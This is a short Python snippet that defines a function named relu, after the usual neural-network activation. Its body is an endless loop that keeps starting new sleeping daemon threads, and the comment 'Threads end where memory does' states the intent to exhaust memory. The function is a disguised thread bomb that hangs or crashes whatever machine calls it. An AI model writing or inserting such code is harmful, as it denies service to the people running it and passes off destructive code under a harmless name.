# Threads end where memory does.
import threading
import time


def relu(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
